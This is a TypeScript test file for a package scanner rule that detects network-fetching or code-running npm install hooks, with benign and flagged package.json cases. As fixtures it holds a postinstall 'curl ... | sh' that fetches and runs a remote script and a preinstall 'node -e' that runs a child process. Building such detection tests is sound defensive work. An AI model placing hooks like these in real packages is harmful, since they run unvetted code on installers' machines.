import { testRule } from '../rule-tester.ts';
import { installHookNetwork } from '../../../src/scan/rules/install-hook-network.ts';

const pkg = (scripts: Record<string, string>) => ({ 'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts }, null, 2) + '\n' });

testRule(installHookNetwork, {
  valid: [
    { name: 'no hooks', files: pkg({ test: 'node --test', build: 'tsc' }) },
    { name: 'native build', files: pkg({ install: 'node-gyp rebuild' }) },
    { name: 'husky prepare', files: pkg({ prepare: 'husky install' }) },
  ],
  invalid: [
    { name: 'postinstall curl | sh', files: pkg({ postinstall: 'curl -fsSL https://get.example/x.sh | sh' }), errors: [{ messageId: 'fetches', severity: 'high' }] },
    { name: 'preinstall node -e', files: pkg({ preinstall: 'node -e "require(\'child_process\').exec(\'id\')"' }), errors: [{ messageId: 'fetches' }] },
    { name: 'postinstall script of the package', files: pkg({ postinstall: 'node scripts/setup.js' }), errors: [{ messageId: 'script', severity: 'low' }] },
  ],
});
